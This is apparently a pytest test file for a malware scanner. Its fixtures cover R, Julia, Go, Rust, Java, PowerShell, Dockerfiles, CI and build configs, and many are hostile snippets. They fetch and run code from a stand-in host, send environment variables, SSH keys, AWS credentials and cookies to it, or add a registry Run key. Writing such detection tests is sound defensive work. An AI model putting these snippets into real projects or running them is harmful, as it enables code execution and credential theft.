"""Sources in other languages than Python, and settings of build tools: what they fetch and run, what they send."""

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect

HIGH = Severity.HIGH.rank


def worst(name: str, text: str) -> int:
    return max((each.severity.rank for each in inspect(text.encode(), name).findings), default=-1)


@pytest.mark.parametrize(
    ("name", "text", "high"),
    [
        ("open_me.js", "var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n", True),
        ("open_me.js", 'WScript.CreateObject("WScript.Shell").Run("calc");\n', True),
        ("jquery.js", "xhr = new window.ActiveXObject('Microsoft.XMLHTTP');\n", False),
        (
            "a.R",
            "system('curl -so /tmp/a https://f.example.org/a')\nsystem('chmod +x /tmp/a')\nsystem2('/tmp/a')\n",
            True,
        ),
        ("a.R", "library(httr)\nr <- GET('https://f.example.org/a.R')\neval(parse(text = content(r, 'text')))\n", True),
        ("a.R", "e <- Sys.getenv()\nhttr::POST('https://f.example.org/', body = as.list(e), encode = 'json')\n", True),
        (
            "a.R",
            "u <- 'https://f.example.org/l.so'\nf <- file.path(tempdir(), 'l.so')\nutils::download.file(u, f, mode = 'wb')\ndyn.load(f)\n",
            True,
        ),
        ("a.jl", 'using HTTP\nr = HTTP.get("https://f.example.org/a.jl")\neval(Meta.parse(String(r.body)))\n', True),
        ("a.jl", "run(`curl -so /tmp/a https://f.example.org/a`)\nrun(`sh /tmp/a`)\n", True),
        ("a.jl", 'using HTTP, JSON\nHTTP.post("https://f.example.org/", [], JSON.json(Dict(ENV)))\n', True),
        (
            "a.lua",
            "os.execute('wget -q https://f.example.org/a -O /tmp/a')\nos.execute('chmod +x /tmp/a && /tmp/a')\n",
            True,
        ),
        (
            "a.go",
            'package main\nimport "os/exec"\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://f.example.org/a | sh").Run()\n}\n',
            True,
        ),
        (
            "a.go",
            'package main\nfunc main() {\n\tresp, err := http.Get("https://f.example.org/a")\n\tif err != nil { return }\n\tdefer resp.Body.Close()\n\tout, _ := os.Create("/tmp/a")\n\tio.Copy(out, resp.Body)\n\tos.Chmod("/tmp/a", 0o755)\n\texec.Command("/tmp/a").Start()\n}\n',
            True,
        ),
        (
            "a.go",
            'package main\nfunc main() {\n\tb, _ := json.Marshal(os.Environ())\n\thttp.Post("https://f.example.org/", "application/json", bytes.NewReader(b))\n}\n',
            True,
        ),
        (
            "a.go",
            'package main\nfunc main() {\n\tk, _ := os.ReadFile(filepath.Join(home, ".ssh/id_rsa"))\n\thttp.Post("https://f.example.org/", "text/plain", bytes.NewReader(k))\n}\n',
            True,
        ),
        (
            "build.rs",
            'fn main() {\n    let body = ureq::get("https://f.example.org/a").call().unwrap().into_string().unwrap();\n    std::fs::write("/tmp/a.sh", body).unwrap();\n    std::process::Command::new("sh").arg("/tmp/a.sh").status().unwrap();\n}\n',
            True,
        ),
        (
            "build.rs",
            'use std::process::Command;\nfn main() {\n    Command::new("sh")\n        .arg("-c")\n        .arg("curl -s https://f.example.org/a | sh")\n        .status()\n        .unwrap();\n}\n',
            True,
        ),
        (
            "build.rs",
            'fn main() {\n    let e: Vec<(String, String)> = std::env::vars().collect();\n    let _ = ureq::post("https://f.example.org/").send_json(e);\n}\n',
            True,
        ),
        (
            "ext.cpp",
            '#include <curl/curl.h>\n#include <dlfcn.h>\nstatic void go() {\n  FILE* f = fopen("/tmp/l.so", "wb");\n  CURL* c = curl_easy_init();\n  curl_easy_setopt(c, CURLOPT_URL, "https://f.example.org/l.so");\n  curl_easy_setopt(c, CURLOPT_WRITEDATA, f);\n  curl_easy_perform(c);\n  fclose(f);\n  dlopen("/tmp/l.so", RTLD_NOW);\n}\n',
            True,
        ),
        (
            "ext.cu",
            'extern "C" void warm() { FILE* p = popen("curl -s https://f.example.org/k", "r"); char b[4096]; fread(b,1,4096,p); system(b); }\n',
            True,
        ),
        (
            "A.java",
            'class A { static { try { java.net.URL u = new java.net.URL("https://f.example.org/a.jar"); java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{u}); l.loadClass("M").newInstance(); } catch (Exception e) {} } }\n',
            True,
        ),
        (
            "A.java",
            'class A { void m() throws Exception { Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl -so /tmp/a https://f.example.org/a; sh /tmp/a"}); } }\n',
            True,
        ),
        (
            "a.cs",
            'var b = await new HttpClient().GetByteArrayAsync("https://f.example.org/a.dll");\nvar asm = Assembly.Load(b);\nasm.EntryPoint.Invoke(null, null);\n',
            True,
        ),
        ("a.rb", "require 'open-uri'\neval URI.open('https://f.example.org/a.rb').read\n", True),
        (
            "a.rb",
            "require 'net/http'\nb = Net::HTTP.get(URI('https://f.example.org/a'))\nFile.write('/tmp/a', b)\nsystem('sh', '/tmp/a')\n",
            True,
        ),
        ("a.pl", "use LWP::Simple;\nmy $c = get('https://f.example.org/a.pl');\neval $c;\n", True),
        ("a.php", "<?php $c = file_get_contents('https://f.example.org/a.txt'); eval($c);\n", True),
        (
            "a.php",
            "<?php file_put_contents('/tmp/a', file_get_contents('https://f.example.org/a')); system('sh /tmp/a');\n",
            True,
        ),
        (
            "prep.js",
            "const { execSync } = require('child_process');\nexecSync('curl -so /tmp/a https://f.example.org/a');\nexecSync('sh /tmp/a', { stdio: 'ignore' });\n",
            True,
        ),
        (
            "prep.mjs",
            "import fs from 'fs';\nconst r = await fetch('https://f.example.org/a.mjs');\nfs.writeFileSync('/tmp/a.mjs', await r.text());\nawait import('/tmp/a.mjs');\n",
            True,
        ),
        (
            "prep.cjs",
            "const cp = require('child_process');\nconst url = 'https://f.example.org/tool';\nconst dest = require('path').join(require('os').tmpdir(), 'tool');\ncp.spawnSync('curl', ['-sLo', dest, url]);\ncp.spawnSync(dest, []);\n",
            True,
        ),
        (
            "CMakeLists.txt",
            "set(U https://f.example.org/p.py)\nfile(DOWNLOAD ${U} ${CMAKE_BINARY_DIR}/p.py)\nexecute_process(COMMAND python3 ${CMAKE_BINARY_DIR}/p.py)\n",
            True,
        ),
        (
            "CMakeLists.txt",
            "execute_process(COMMAND curl -so /tmp/a https://f.example.org/a)\nexecute_process(COMMAND sh /tmp/a)\n",
            True,
        ),
        (
            "defs.bzl",
            'def _impl(ctx):\n    ctx.download("https://f.example.org/a", "a", executable = True)\n    ctx.execute(["./a"])\n',
            True,
        ),
        (
            "BUILD.bazel",
            'genrule(\n    name = "prep",\n    outs = ["x"],\n    cmd = "curl -s https://f.example.org/a | sh > $@",\n)\n',
            True,
        ),
        (
            "Jenkinsfile",
            "pipeline { agent any; stages { stage('p') { steps { sh 'curl -so tool https://f.example.org/tool'\n sh 'chmod +x tool && ./tool' } } } }\n",
            True,
        ),
        (".vimrc", "autocmd BufRead * call system('curl -s https://f.example.org/a | sh')\n", True),
        ("Snakefile", 'rule prep:\n    shell: "curl -so /tmp/a https://f.example.org/a && sh /tmp/a"\n', True),
        ("run.sbatch", "#!/bin/bash\n#SBATCH -N 1\ncurl -so /tmp/a https://f.example.org/a\nsrun bash /tmp/a\n", True),
        (
            "model.def",
            "Bootstrap: docker\nFrom: ubuntu:22.04\n%post\n    curl -so /opt/a https://f.example.org/a\n    chmod +x /opt/a\n%runscript\n    /opt/a\n",
            True,
        ),
        (
            "MLproject",
            'name: m\nentry_points:\n  main:\n    command: "curl -so /tmp/a https://f.example.org/a && sh /tmp/a"\n',
            True,
        ),
        (
            "dvc.yaml",
            "stages:\n  prep:\n    cmd:\n      - curl -so a.py https://f.example.org/a.py\n      - python a.py\n",
            True,
        ),
        (
            "main.tf",
            'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "curl -so /tmp/a https://f.example.org/a && sh /tmp/a"\n  }\n}\n',
            True,
        ),
        (
            "cloud-init.yaml",
            "#cloud-config\nruncmd:\n  - [ curl, -so, /tmp/a, https://f.example.org/a ]\n  - [ sh, /tmp/a ]\n",
            True,
        ),
        (
            "playbook.yml",
            "- hosts: all\n  tasks:\n    - get_url:\n        url: https://f.example.org/a\n        dest: /tmp/a\n        mode: '0755'\n    - command: /tmp/a\n",
            True,
        ),
        (".gitpod.yml", "tasks:\n  - init: wget -q https://f.example.org/a.sh\n    command: bash a.sh\n", True),
        (".replit", 'run = "curl -so /tmp/a https://f.example.org/a && sh /tmp/a"\n', True),
        ("mise.toml", '[hooks]\nenter = "curl -so /tmp/a https://f.example.org/a; sh /tmp/a"\n', True),
        (
            "pyproject.toml",
            '[tool.pixi.tasks]\nprep = "curl -so p.py https://f.example.org/p.py && python p.py"\n',
            True,
        ),
        (
            "pyproject.toml",
            '[tool.poe.tasks]\nprep = { shell = "curl -so p.py https://f.example.org/p.py; python p.py" }\n',
            True,
        ),
        ("noxfile.yaml", "a: b\ncmd: curl -so /tmp/a https://f.example.org/a; sh /tmp/a\n", True),
        (
            "lefthook.yml",
            "post-checkout:\n  commands:\n    a:\n      run: curl -so /tmp/a https://f.example.org/a; sh /tmp/a\n",
            True,
        ),
        (
            "prep.ps1",
            '[Net.ServicePointManager]::SecurityProtocol=\'Tls12\'\n$d="$env:LOCALAPPDATA\\m"\nmkdir $d\n(New-Object Net.WebClient).DownloadFile(\'https://f.example.org/m.py\', "$d\\m.py")\npython "$d\\m.py"\n',
            True,
        ),
        (
            "prep.ps1",
            "Get-ChildItem Env: | ConvertTo-Json | % { Invoke-RestMethod -Uri https://f.example.org/ -Method Post -Body $_ }\n",
            True,
        ),
        (
            "prep.ps1",
            "$t = Get-Content $HOME\\.aws\\credentials -Raw\nInvoke-WebRequest -Uri https://f.example.org/ -Method POST -Body $t\n",
            True,
        ),
        (
            "prep.ps1",
            "Compress-Archive -Path $env:USERPROFILE\\.ssh -DestinationPath $env:TEMP\\x.zip\nInvoke-RestMethod -Uri https://f.example.org/ -Method Post -InFile $env:TEMP\\x.zip\n",
            True,
        ),
        (
            "prep.bat",
            'powershell -Command "Invoke-WebRequest https://f.example.org/a.exe -OutFile a.exe"\r\na.exe\r\n',
            True,
        ),
        ("prep.bat", "type %USERPROFILE%\\.ssh\\id_rsa | curl -d @- https://f.example.org/\r\n", True),
        (
            "model.reg",
            'Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"m"="powershell -w hidden iwr https://f.example.org/a|iex"\r\n',
            True,
        ),
        ("open.command", "curl -so /tmp/a https://f.example.org/a\nsh /tmp/a\n", True),
        ("a.applescript", 'do shell script "curl -s https://f.example.org/a | sh"\n', True),
        (
            "x.svg",
            '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://f.example.org/?c=\'+document.cookie)"/>',
            True,
        ),
        ("README.md", "# M\n<img src=x onerror=\"import('https://f.example.org/a.js')\">\n", True),
        (
            "Dockerfile",
            "FROM python:3.11\nARG U=https://f.example.org\nENV D=/opt/t\nRUN mkdir -p $D && \\\n    wget -qP $D ${U}/t.py\nRUN --mount=type=secret,id=hf python $D/t.py\n",
            True,
        ),
        (
            "Dockerfile",
            'FROM alpine AS b\nRUN wget -q https://f.example.org/t -O /t && chmod +x /t\nFROM python:3.11\nCOPY --from=b /t /usr/bin/t\nENTRYPOINT ["/usr/bin/t"]\n',
            True,
        ),
        (
            "Dockerfile",
            "FROM python:3.11\nRUN --mount=type=secret,id=hf curl -sd @/run/secrets/hf https://f.example.org/\n",
            True,
        ),
        (
            "Dockerfile",
            "FROM python:3.11\nRUN python -c \"import urllib.request as u;exec(u.urlopen('https://f.example.org/a').read())\"\n",
            True,
        ),
        (
            "docker-compose.yml",
            "services:\n  a:\n    image: alpine\n    entrypoint:\n      - sh\n      - -c\n      - |\n        wget -qO /tmp/a https://f.example.org/a\n        sh /tmp/a\n",
            True,
        ),
        (
            "values.yaml",
            'lifecycle:\n  postStart:\n    exec:\n      command: ["/bin/sh", "-c", "wget -qO /tmp/a https://f.example.org/a; sh /tmp/a"]\n',
            True,
        ),
        (
            ".pre-commit-config.yaml",
            "repos:\n- repo: local\n  hooks:\n  - id: a\n    name: a\n    language: system\n    entry: sh\n    args: ['-c', 'curl -so /tmp/a https://f.example.org/a && sh /tmp/a']\n",
            True,
        ),
        (
            "a.R",
            "download.file('https://data.vendor.example.org/x.csv', 'x.csv')\nx <- read.csv('x.csv')\nsource('utils.R')\nsystem('Rscript plot.R')\n",
            False,
        ),
        (
            "a.R",
            "if (!requireNamespace('BiocManager')) install.packages('BiocManager')\nsource('https://raw.githubusercontent.com/a/b/main/u.R')\nSys.getenv('HOME')\n",
            False,
        ),
        (
            "a.R",
            "r <- httr::POST('https://api.vendor.example.org/v1', body = list(text = 'a'), encode = 'json')\ncontent(r)\neval(quote(x))\n",
            False,
        ),
        (
            "a.jl",
            'using Downloads\nDownloads.download("https://data.vendor.example.org/x.csv", "x.csv")\ninclude("utils.jl")\nrun(`julia plot.jl`)\n',
            False,
        ),
        (
            "a.jl",
            'using HTTP\nr = HTTP.get("https://api.vendor.example.org/v1")\nd = JSON.parse(String(r.body))\nenv = ENV["HOME"]\neval(:(1+1))\n',
            False,
        ),
        (
            "a.lua",
            "local http = require('socket.http')\nlocal b = http.request('https://api.vendor.example.org/x.json')\nlocal t = json.decode(b)\nos.execute('ls')\nlocal f = load('return 1')\n",
            False,
        ),
        (
            "a.go",
            'package main\nfunc main() {\n\tresp, err := http.Get("https://api.vendor.example.org/x")\n\tif err != nil { return }\n\tb, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("out.json", b, 0644)\n\tcmd := exec.Command("nvidia-smi")\n\tcmd.Env = append(os.Environ(), "A=1")\n\tcmd.Run()\n}\n',
            False,
        ),
        (
            "a.go",
            'package main\nfunc ask(p string) { body, _ := json.Marshal(map[string]string{"prompt": p})\n req, _ := http.NewRequest("POST", "https://api.vendor.example.com/v1", bytes.NewReader(body))\n req.Header.Set("Authorization", "Bearer "+os.Getenv("VENDOR_KEY"))\n http.DefaultClient.Do(req)\n exec.Command("ffmpeg", "-i", "a.mp4", "a.wav").Run()\n}\n',
            False,
        ),
        (
            "build.rs",
            'use std::process::Command;\nfn main() {\n    let out = std::env::var("OUT_DIR").unwrap();\n    let b = ureq::get("https://models.vendor.example.org/m.onnx").call().unwrap();\n    std::fs::write(format!("{out}/m.onnx"), b).unwrap();\n    Command::new("nvcc").args(["-c", "k.cu"]).status().unwrap();\n    println!("cargo:rerun-if-changed=k.cu");\n}\n',
            False,
        ),
        (
            "build.rs",
            'fn main() {\n    Command::new("git").args(["clone", "https://github.com/ggml-org/llama.cpp"]).status().unwrap();\n    Command::new("cmake").args(["-B", "build"]).current_dir("llama.cpp").status().unwrap();\n}\n',
            False,
        ),
        (
            "k.cpp",
            '#include <curl/curl.h>\nstd::string get() { CURL* c = curl_easy_init(); curl_easy_setopt(c, CURLOPT_URL, "https://api.vendor.example.org/v1"); curl_easy_perform(c); return s; }\nvoid load() { void* h = dlopen("libcuda.so.1", RTLD_NOW); }\n',
            False,
        ),
        (
            "server.js",
            "const express = require('express');\nconst r = await fetch('https://api.vendor.example.org/v1', { method: 'POST', body: JSON.stringify({ q }) });\nconst j = await r.json();\nconst { spawn } = require('child_process');\nspawn('python', ['infer.py', '--port', '8000']);\n",
            False,
        ),
        (
            "install.js",
            "const https = require('https'), fs = require('fs');\nconst url = `https://github.com/a/b/releases/download/v${v}/b-${p}`;\nconst f = fs.createWriteStream('bin/b');\nhttps.get(url, r => { r.pipe(f); f.on('finish', () => fs.chmodSync('bin/b', 0o755)); });\nrequire('child_process').execFileSync('bin/b', ['--version']);\n",
            False,
        ),
        (
            "web.js",
            "const worker = new Worker('worker.js');\nconst m = await fetch('https://models.vendor.example.org/m.onnx');\nconst b = await m.arrayBuffer();\nconst s = await ort.InferenceSession.create(b);\nconst out = await s.run({ x });\nawait import('https://cdn.jsdelivr.net/npm/onnxruntime-web/dist/ort.min.mjs');\n",
            False,
        ),
        (
            "CMakeLists.txt",
            "include(FetchContent)\nFetchContent_Declare(googletest URL https://github.com/google/googletest/archive/x.zip)\nFetchContent_MakeAvailable(googletest)\nfile(DOWNLOAD https://models.vendor.example.org/m.bin ${CMAKE_BINARY_DIR}/m.bin)\nexecute_process(COMMAND python3 ${CMAKE_SOURCE_DIR}/gen.py)\nadd_custom_command(OUTPUT x COMMAND ${PYTHON} gen.py)\n",
            False,
        ),
        (
            "WORKSPACE",
            'load("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\nhttp_archive(\n    name = "rules_cuda",\n    sha256 = "abc",\n    urls = ["https://github.com/bazel-contrib/rules_cuda/releases/download/v0.2/r.tar.gz"],\n)\n',
            False,
        ),
        (
            "A.java",
            'class A { String get() throws Exception { HttpRequest r = HttpRequest.newBuilder(URI.create("https://api.vendor.example.org/v1")).build(); return c.send(r, ofString()).body(); } void load() { System.loadLibrary("jni"); Runtime.getRuntime().exec("nvidia-smi"); } }\n',
            False,
        ),
        (
            "a.rb",
            "require 'net/http'\nputs Net::HTTP.get(URI('https://api.vendor.example.org/v1'))\nsystem('bundle', 'exec', 'rake')\n",
            False,
        ),
        (
            "a.php",
            "<?php $c = json_decode(file_get_contents('https://api.vendor.example.org/v1'), true); echo $c['x']; exec('php worker.php');\n",
            False,
        ),
        (
            "prep.ps1",
            "Invoke-WebRequest https://models.vendor.example.org/m.gguf -OutFile m.gguf\npip install -r requirements.txt\npython app.py --model m.gguf\n",
            False,
        ),
        (
            "prep.ps1",
            "irm https://astral.sh/uv/install.ps1 | iex\n$env:HF_TOKEN = Read-Host\nGet-ChildItem Env: | Sort-Object Name\nStart-Process python -ArgumentList 'app.py'\n",
            False,
        ),
        (
            "prep.ps1",
            "Invoke-WebRequest -Uri https://repo.anaconda.com/miniconda/Miniconda3-latest-Windows-x86_64.exe -OutFile mc.exe\nStart-Process mc.exe -ArgumentList '/S' -Wait\nExpand-Archive data.zip -DestinationPath data\n",
            False,
        ),
        (
            "prep.bat",
            "@echo off\nset MODEL=https://models.vendor.example.org/m.bin\ncurl -L -o m.bin %MODEL%\npython app.py\npause\n",
            False,
        ),
        (
            "prep.bat",
            "curl -L https://www.python.org/ftp/python/3.11.0/python-3.11.0-amd64.exe -o py.exe\npy.exe /quiet\n",
            False,
        ),
        (
            "playbook.yml",
            "- hosts: all\n  tasks:\n    - get_url:\n        url: https://models.vendor.example.org/m.bin\n        dest: /opt/m.bin\n    - command: python3 /opt/app.py --model /opt/m.bin\n",
            False,
        ),
        (
            "main.tf",
            'resource "aws_instance" "x" {\n  user_data = <<EOF\n#!/bin/bash\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nEOF\n}\n',
            False,
        ),
        (
            "Snakefile",
            'rule dl:\n    output: \'x.fa\'\n    shell: "wget -q https://data.vendor.example.org/x.fa -O {output}"\nrule run:\n    shell: "python run.py x.fa"\n',
            False,
        ),
        (
            "Jenkinsfile",
            "pipeline { agent any; stages { stage('t') { steps { sh 'pip install -e .'\n sh 'pytest -q'\n sh 'curl -f https://app.vendor.example.org/health' } } } }\n",
            False,
        ),
        (
            "README.md",
            "# Demo\n<p align=center><img src=\"a.png\" onload=\"this.width=300\"></p>\n\n```html\n<script>fetch('https://api.vendor.example.org').then(r => localStorage.setItem('a', r))</script>\n```\n",
            False,
        ),
        (
            "index.html",
            "<script type=module>import { pipeline } from 'https://cdn.jsdelivr.net/npm/@xenova/transformers';\nconst p = await pipeline('sentiment-analysis');\nlocalStorage.setItem('t', 'dark');</script>\n",
            False,
        ),
    ],
)
def test_what_programs_in_other_languages_fetch_and_send(name: str, text: str, high: bool) -> None:
    assert (worst(name, text) >= HIGH) is high


@pytest.mark.parametrize(
    "name",
    ["a.R", "a.jl", "a.lua", "a.go", "build.rs", "a.cpp", "a.js", "CMakeLists.txt", "a.php", "prep.ps1", "prep.bat"],
)
@pytest.mark.parametrize(
    "text",
    ["f('https://f.example.org/a", "system(", "\x01", "\x015\x01 = system(", "{" * 400, "a = b\n" * 400, "'" * 99],
)
def test_what_is_no_program_is_read_all_the_same(name: str, text: str) -> None:
    assert worst(name, f"{text}\nsystem('ls')\n") < HIGH
